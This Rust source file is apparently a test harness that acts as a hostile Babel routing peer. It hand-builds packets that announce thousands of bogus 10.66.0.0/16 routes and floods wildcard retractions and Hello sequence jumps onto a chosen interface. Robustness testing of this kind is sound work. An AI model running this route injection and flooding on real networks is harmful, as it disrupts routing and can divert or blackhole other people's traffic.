//! What a Babel router says that means harm: routes without number, and then packet after packet that takes them back. The bytes
//! are made by hand, as RFC 8966 §4 has them: what is tested has no part in it.
use anyhow::{Context, Result};
use std::{
    fs,
    net::{Ipv6Addr, SocketAddrV6, UdpSocket},
    time::{Duration, Instant},
};

/// Prefixes that it announces: 10.66.0.0/32 and those that follow.
pub const HOSTILE_PREFIXES: usize = 32 * IN_A_PACKET;
/// Where all of those lie.
pub const HOSTILE_NET: &str = "10.66.0.0/16";

/// In a packet of 1,296 bytes there are 1,244 for TLVs.
const BODY: usize = 1_296 - 48 - 4;
/// Updates in that, after a Hello, an IHU, a router-id and a next hop.
const IN_A_PACKET: usize = (BODY - 36) / 16;

const PORT: u16 = 6_696;
/// A wildcard retraction: an update of no prefix, with the metric infinity.
const RETRACT_ALL: [u8; 12] = [8, 10, 0, 0, 0, 0, 0x27, 0x10, 0, 0, 0xff, 0xff];
/// All routers of a link that speak Babel.
const GROUP: Ipv6Addr = Ipv6Addr::new(0xff02, 0, 0, 0, 0, 0, 1, 6);

/// A router on an interface.
#[derive(Debug)]
pub struct Hostile {
    socket: UdpSocket,
    seqno: u16,
}

impl Hostile {
    /// Speaks to whom its interface leads.
    ///
    /// # Errors
    /// When there is no such interface, or another router has the port.
    pub fn new(interface: &str) -> Result<Self> {
        let index = fs::read_to_string(format!("/sys/class/net/{interface}/ifindex")).context("an interface")?;
        let socket = UdpSocket::bind((Ipv6Addr::UNSPECIFIED, PORT))?;
        socket.connect(SocketAddrV6::new(GROUP, PORT, 0, index.trim().parse()?))?;
        Ok(Self { socket, seqno: 0 })
    }

    /// Announces all prefixes again and again, at a rate that any neighbour bears.
    ///
    /// # Errors
    /// When nothing can be sent.
    pub fn announce(&mut self, time: Duration) -> Result<u64> {
        self.paced(50, time, |hostile, n| hostile.updates(n, &[]))
    }

    /// All is retracted and some is announced, in one packet; or all is retracted a hundred times, or the router starts again as
    /// often; so many packets a second.
    ///
    /// # Errors
    /// When nothing can be sent.
    pub fn flood(&mut self, rate: u64, time: Duration) -> Result<u64> {
        self.paced(rate, time, |hostile, n| match n % 8 {
            0 => filled(Vec::new(), || RETRACT_ALL.to_vec()),
            1 => filled(Vec::new(), || hostile.hello(1_000)),
            _ => hostile.updates(n, &RETRACT_ALL),
        })
    }

    fn paced(&mut self, rate: u64, time: Duration, mut packet: impl FnMut(&mut Self, usize) -> Vec<u8>) -> Result<u64> {
        let (started, mut sent) = (Instant::now(), 0);
        for n in 0.. {
            while u128::from(sent) >= started.elapsed().as_nanos() * u128::from(rate) / 1_000_000_000 {
                std::thread::sleep(Duration::from_micros(200));
            }
            if started.elapsed() >= time {
                break;
            }
            let packet = packet(self, n);
            self.socket.send(&packet)?;
            sent += 1;
        }
        Ok(sent)
    }

    /// One packet's part of the announcement, behind something else, from somebody who hears its neighbour well.
    fn updates(&mut self, n: usize, first: &[u8]) -> Vec<u8> {
        let mut tlvs = [&self.hello(1), first].concat();
        // An IHU for whoever reads it, with a cost of 96.
        tlvs.extend([5, 6, 0, 0, 0, 96, 4, 176]);
        tlvs.extend([6, 10, 0, 0, 6, 6, 6, 6, 6, 6, 6, 6]);
        tlvs.extend([7, 6, 1, 0, 10, 66, 255, 1]);
        let mut next = n * IN_A_PACKET;
        filled(tlvs, || {
            let [.., high, low] = (next % HOSTILE_PREFIXES).to_be_bytes();
            next += 1;
            // Good for 100 s, at a metric of 100.
            vec![8, 14, 1, 0, 32, 0, 0x27, 0x10, 0, 1, 0, 100, 10, 66, high, low]
        })
    }

    /// A multicast Hello, whose number is so far from that of the last one.
    fn hello(&mut self, step: u16) -> Vec<u8> {
        self.seqno = self.seqno.wrapping_add(step);
        let [high, low] = self.seqno.to_be_bytes();
        vec![4, 6, 0, 0, high, low, 1, 144]
    }
}

/// A packet's payload: these TLVs, then as many more as fit, then padding.
fn filled(mut tlvs: Vec<u8>, mut more: impl FnMut() -> Vec<u8>) -> Vec<u8> {
    loop {
        let tlv = more();
        if tlvs.len() + tlv.len() > BODY {
            break;
        }
        tlvs.extend(tlv);
    }
    tlvs.resize(BODY, 0);
    let len = u16::try_from(BODY).expect("a packet's length");
    [&[42, 2][..], &len.to_be_bytes(), &tlvs].concat()
}
